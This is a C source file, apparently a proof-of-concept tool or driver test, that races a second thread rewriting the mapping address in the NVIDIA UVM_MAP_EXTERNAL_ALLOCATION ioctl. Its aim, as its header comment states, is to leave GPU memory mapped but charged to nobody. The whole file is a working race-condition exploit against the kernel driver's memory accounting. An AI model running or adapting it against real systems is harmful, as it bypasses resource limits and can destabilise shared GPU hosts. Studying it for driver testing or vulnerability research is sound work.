// SPDX-License-Identifier: Apache-2.0
/*
 * race_mapping [--dev DIR] ATTEMPTS BYTES: maps memory by UVM while another thread changes the address in the
 * arguments, frees its handle and the one of two ranges where the engine may have seen it; and the other one too when
 * the charge is still there. Memory that then stays mapped is charged to nobody. Prints "raced", and keeps it until a
 * line comes.
 */
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>

#include "client.h"
#include "uvm_probe.h"

#define FIRST_BASE 0x300000000000ull

static struct uvm uvm;
static uint8_t *params;
static uint64_t size;
static _Atomic uint64_t base;
static atomic_ulong turn;
static atomic_bool ended;

static uint16_t base_at(void)
{
	return uvm.settings.abi->UVM_MAP_EXTERNAL_ALLOCATION_PARAMS.base;
}

static void *change(void *unused)
{
	while (!ended)
		__atomic_store_n(
			(uint64_t *)(void *)(params + base_at()), base + (turn++ & 1) * size, __ATOMIC_RELAXED);
	return unused;
}

static void fill_in(void)
{
	const struct nv_abi *abi = uvm.settings.abi;
	const struct nv_layout_UVM_MAP_EXTERNAL_ALLOCATION_PARAMS *at = &abi->UVM_MAP_EXTERNAL_ALLOCATION_PARAMS;

	put64(params, at->length, size);
	memcpy(params + at->perGpuAttributes + abi->UvmGpuMappingAttributes.gpuUuid, uvm.uuid, sizeof(uvm.uuid));
	put64(params, at->gpuAttributesCount, 1);
	put32(params, at->rmCtrlFd, (uint32_t)uvm.session.ctl);
	put32(params, at->hClient, uvm.session.client);
}

static uint64_t used(void)
{
	struct sizes sizes = { 0 };

	info_v2(&uvm.session, &sizes);
	return sizes.total - sizes.free;
}

static void free_range(uint64_t at)
{
	uvm.ranges[0] = (struct range){ .base = at, .length = size };
	uvm.count = 1;
	uvm_free(&uvm);
}

/* Until the other thread has seen what has changed. */
static void await_change(void)
{
	unsigned long now = turn;

	while (turn < now + 2)
		;
}

static void attempt(uint64_t before)
{
	struct grant grant;

	await_change();
	memory_alloc(&uvm.session, size, &grant);
	put32(params, uvm.settings.abi->UVM_MAP_EXTERNAL_ALLOCATION_PARAMS.hMemory, grant.handle);
	uvm_range_at(&uvm, base, size);
	uvm_range_at(&uvm, base + size, size);
	if (ioctl(uvm.fd, UVM_MAP_EXTERNAL_ALLOCATION, params) != 0)
		perror("map");
	session_free(&uvm.session, grant.handle);
	free_range(base);
	if (used() > before)
		free_range(base + size);
}

int main(int argc, char **argv)
{
	struct settings settings;
	unsigned long attempts;
	pthread_t thread;
	uint64_t before;

	client_begin(&settings, &argc, &argv, 2);
	attempts = strtoul(argv[0], NULL, 0);
	size = strtoull(argv[1], NULL, 0);
	params = calloc(1, settings.abi->UVM_MAP_EXTERNAL_ALLOCATION_PARAMS.bytes);
	if (!params || uvm_open(&uvm, &settings) != NV_OK)
		return perror("nvidia-uvm"), 1;
	base = FIRST_BASE;
	fill_in();
	before = used();
	pthread_create(&thread, NULL, change, NULL);
	for (; attempts > 0; attempts--, base += 2 * size)
		attempt(before);
	ended = true;
	pthread_join(thread, NULL);
	printf("raced charged=%llu\n", (unsigned long long)(used() - before));
	client_next();
	return 0;
}
